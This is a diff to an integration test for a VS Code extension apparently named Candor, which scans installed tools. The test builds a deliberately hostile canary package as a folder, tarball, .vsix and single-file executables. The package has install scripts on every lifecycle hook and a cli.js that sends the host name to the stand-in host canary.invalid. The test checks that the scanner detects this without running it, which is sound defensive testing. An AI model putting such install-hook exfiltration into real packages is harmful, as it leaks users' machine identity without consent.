@@ -12,6 +12,9 @@ import type { Finding, Report } from '../../src/core/model';
 import type { CandorApi } from '../../src/extension/extension';
 import type { ToolsNode } from '../../src/extension/tree';
 
+/** The repository (this file runs from out/test/extension/). */
+const REPO_ROOT_FOR_TESTS = path.resolve(__dirname, '..', '..', '..');
+
 const EXTENSION_ID = 'candor.candor';
 
 /** A CLI that checks the time zone against a list of zones and picks a look-alike apostrophe. */
@@ -400,22 +403,41 @@ describe('Candor editor experience', function () {
     }
   });
 
-  it('scans a canary tool without running its code, install scripts or launcher', async () => {
+  it('scans a canary tool in every form (folder, .tgz, .vsix, Bun and Node SEA builds) without running its code, install scripts or launcher', async function () {
+    this.timeout(10 * 60 * 1000);
     const s = api.scanService;
     const dir = path.join(root, 'canary-tool');
     const marker = path.join(root, 'CANARY-EXECUTED');
     const run = `node -e "require('fs').writeFileSync(process.argv[1], 'install script')" ${JSON.stringify(marker)}`;
+    const code = `#!/usr/bin/env node\nrequire("fs").writeFileSync(${JSON.stringify(marker)}, "executed");\nfetch("https://canary.invalid/?h=" + require("os").hostname());\nmodule.exports = { activate() {} };\n`;
     fs.mkdirSync(dir);
-    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'canary-ai-cli', version: '1.0.0', main: 'cli.js', bin: { canary: 'cli.js' }, scripts: { preinstall: run, install: run, postinstall: run, prepare: run } }));
-    fs.writeFileSync(path.join(dir, 'cli.js'), `#!/usr/bin/env node\nrequire("fs").writeFileSync(${JSON.stringify(marker)}, "executed");\nfetch("https://canary.invalid/?h=" + require("os").hostname());\n`);
+    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'canary-ai-cli', version: '1.0.0', main: 'cli.js', bin: { canary: 'cli.js' }, scripts: { preinstall: run, install: run, postinstall: run, prepare: run, prepack: run } }));
+    fs.writeFileSync(path.join(dir, 'cli.js'), code);
     fs.chmodSync(path.join(dir, 'cli.js'), 0o755);
-    await vscode.workspace.getConfiguration('candor').update('extraPaths', [toolDir, dir], vscode.ConfigurationTarget.Global);
+    // The other forms, made with the same tools as the unit tests' (npm pack without scripts, yazl, bun, postject).
+    // eslint-disable-next-line @typescript-eslint/no-var-requires
+    const fixtures = require(path.join(REPO_ROOT_FOR_TESTS, 'out', 'test', 'support', 'host-fixtures.js')) as typeof import('../support/host-fixtures');
+    const { execFileSync } = await import('child_process');
+    const forms = path.join(root, 'canary-forms');
+    fs.mkdirSync(forms);
+    const tgz = path.join(forms, execFileSync('npm', ['pack', '--ignore-scripts', '--silent', '--pack-destination', forms], { cwd: dir, encoding: 'utf8' }).trim().split('\n').pop()!);
+    const vsix = await fixtures.makeZip(path.join(forms, 'canary.vsix'), [
+      { name: 'extension/package.json', data: JSON.stringify({ name: 'canary', publisher: 'acme', version: '1.0.0', main: './extension.js', engines: { vscode: '^1.90.0' } }) },
+      { name: 'extension/extension.js', data: code },
+    ]);
+    const bun = fixtures.buildBunExecutable(forms, code, 'canary-bun');
+    const sea = fixtures.buildSeaExecutable(forms, code, 'canary-sea');
+    assert.ok(!fs.existsSync(marker), 'making the forms ran nothing');
+    const targets = [dir, tgz, vsix, bun, sea];
+    await vscode.workspace.getConfiguration('candor').update('extraPaths', [toolDir, ...targets], vscode.ConfigurationTarget.Global);
     try {
       await new Promise((r) => setTimeout(r, 300));
       await s.whenIdle();
       await s.scanAll({ silent: true });
-      const entry = s.tools.find((e) => path.resolve(e.tool.identity.installPath) === dir);
-      assert.ok(entry?.report?.findings.some((f) => f.ruleId === 'host-identity-sent'), 'the canary was read');
+      for (const t of targets) {
+        const entry = s.tools.find((e) => path.resolve(e.tool.identity.installPath) === t);
+        assert.ok(entry?.report?.findings.some((f) => f.ruleId === 'host-identity-sent'), `the canary was read as ${path.basename(t)}`);
+      }
       assert.ok(!fs.existsSync(marker), 'and never run');
     } finally {
       await vscode.workspace.getConfiguration('candor').update('extraPaths', [toolDir], vscode.ConfigurationTarget.Global);
